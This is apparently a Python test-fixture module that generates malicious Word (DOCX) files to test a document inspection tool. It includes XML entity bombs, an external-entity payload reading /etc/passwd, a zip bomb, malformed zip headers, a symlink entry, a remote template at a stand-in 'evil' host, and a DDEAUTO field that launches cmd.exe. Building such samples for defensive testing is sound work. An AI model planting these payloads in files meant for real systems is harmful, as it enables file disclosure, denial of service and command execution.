"""Hostile office files: bombs, ambiguous containers, entities, macros, remote templates."""

import io
import struct
import warnings
import zipfile
import zlib
from collections.abc import Callable

from tests.filings.inspection.office_files import (
    W,
    document_xml,
    docx,
    relationship,
    relationships_xml,
)


def zip_with(change: Callable[[zipfile.ZipFile], None]) -> bytes:
    file = io.BytesIO(docx())
    with zipfile.ZipFile(file, "a", zipfile.ZIP_DEFLATED) as archive:
        change(archive)
    return file.getvalue()


def docx_billion_laughs() -> bytes:
    chain = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))
    return docx(parts={"word/document.xml": f'<!DOCTYPE x [<!ENTITY a0 "ha">{chain}]><x>&a9;</x>'})


def docx_quadratic() -> bytes:
    text = f'<!DOCTYPE x [<!ENTITY a "{"a" * 100_000}">]><x>{"&a;" * 20_000}</x>'
    return docx(parts={"word/document.xml": text})


_XXE = '<!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd">]><x>&f;</x>'


def docx_xxe() -> bytes:
    return docx(parts={"word/document.xml": _XXE})


def docx_utf16_dtd() -> bytes:
    text = '<?xml version="1.0" encoding="UTF-16"?>' + _XXE
    return docx(parts={"word/document.xml": text.encode("utf-16")})


def docx_utf7() -> bytes:
    text = '<?xml version="1.0" encoding="UTF-7"?>+ADwAIQ-DOCTYPE x+AD4-'
    return docx(parts={"word/document.xml": text})


def docx_zip_bomb() -> bytes:
    squeeze = zlib.compressobj(9, zlib.DEFLATED, -15)
    data = b"".join([squeeze.compress(bytes(10**7)) for _ in range(50)] + [squeeze.flush()])
    return _raw_entry("word/media/image1.png", data, 500_000_000)


def _raw_entry(name: str, deflated: bytes, size: int) -> bytes:
    """A DOCX with one part whose compressed bytes are given."""
    whole = zip_with(lambda archive: archive.writestr(name, b""))
    at = whole.rindex(b"PK\x03\x04", 0, whole.index(b"PK\x01\x02"))
    encoded = name.encode()
    local = (
        struct.pack(
            "<4s5H3L2H", b"PK\x03\x04", 20, 0, 8, 0, 0, 0, len(deflated), size, len(encoded), 0
        )
        + encoded
        + deflated
    )
    directory = whole[whole.index(b"PK\x01\x02") : whole.rindex(b"PK\x05\x06")]
    last = directory.rindex(b"PK\x01\x02")
    entry = (
        struct.pack(
            "<4s6H3L5H2L",
            b"PK\x01\x02",
            20,
            20,
            0,
            8,
            0,
            0,
            0,
            len(deflated),
            size,
            len(encoded),
            0,
            0,
            0,
            0,
            0,
            at,
        )
        + encoded
    )
    directory = directory[:last] + entry
    count = directory.count(b"PK\x01\x02")
    end = struct.pack(
        "<4s4H2LH", b"PK\x05\x06", 0, 0, count, count, len(directory), at + len(local), 0
    )
    return whole[:at] + local + directory + end


def docx_big_document_xml() -> bytes:
    return docx("<w:p/>" * 3_000_000)


def docx_deep() -> bytes:
    depth = 200_000
    return docx("<w:sdt>" * depth + "</w:sdt>" * depth)


def docx_lying_size() -> bytes:
    whole = bytearray(docx("<w:p/>" * 1000))
    at = whole.index(b"word/document.xml", whole.index(b"PK\x01\x02")) - 46
    struct.pack_into("<L", whole, at + 24, 10)
    return bytes(whole)


def docx_dup_part() -> bytes:
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        return zip_with(lambda archive: archive.writestr("word/document.xml", document_xml("")))


def docx_overlapping() -> bytes:
    whole = bytearray(docx())
    first = whole.index(b"PK\x01\x02")
    second = whole.index(b"PK\x01\x02", first + 4)
    struct.pack_into("<L", whole, second + 42, 10)
    return bytes(whole)


def docx_symlink() -> bytes:
    link = zipfile.ZipInfo("word/media/link.png")
    link.external_attr = 0o120777 << 16
    return zip_with(lambda archive: archive.writestr(link, "/etc/passwd"))


def docx_many_parts() -> bytes:
    def change(archive: zipfile.ZipFile) -> None:
        for number in range(70_000):
            archive.writestr(zipfile.ZipInfo(f"a/{number}"), b"")

    return zip_with(change)


def docx_remote_template() -> bytes:
    return template("https://example.com/evil.dotm")


def template(target: str) -> bytes:
    return docx(
        references=(relationship("rId9", "settings", "settings.xml"),),
        parts={
            "word/settings.xml": f'<w:settings xmlns:w="{W}" xmlns:r="http://schemas.openxmlformats'
            '.org/officeDocument/2006/relationships"><w:attachedTemplate r:id="rId1"/>'
            "</w:settings>",
            "word/_rels/settings.xml.rels": relationships_xml(
                relationship("rId1", "attachedTemplate", target, external=True)
            ),
        },
    )


def docx_local_template() -> bytes:
    return template("file:///C:\\Users\\wang\\Normal.dotm")


def docx_dde() -> bytes:
    return docx(
        '<w:p><w:r><w:instrText>DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"</w:instrText>'
        "</w:r></w:p>"
    )


def ruined_as_text() -> bytes:
    """A DOCX after a transfer that turned every line feed into CR LF."""
    noise = zlib.compress(b"".join(struct.pack(">L", n * 2654435761 % 2**32) for n in range(9000)))
    return docx(parts={"word/media/a.png": noise}).replace(b"\n", b"\r\n")
